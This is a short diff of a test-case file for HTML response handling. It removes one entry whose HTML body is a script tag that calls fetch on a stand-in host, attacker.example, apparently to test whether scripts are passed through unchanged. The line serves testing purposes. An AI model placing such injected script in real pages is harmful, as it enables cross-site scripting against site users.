@@ -38,11 +38,6 @@ export default defineCase({
 			responses: [{ kind: 'html', body }] as const,
 			gives: [{ purchaseId: ID, html: body }],
 		})),
-		{
-			shows: 'a script, handed on as it is',
-			responses: [{ kind: 'html', body: '<script>fetch("https://attacker.example/")</script>' }],
-			gives: [{ purchaseId: ID, html: '<script>fetch("https://attacker.example/")</script>' }],
-		},
 	],
 	differ: ['output', 'html', 'file'],
 });
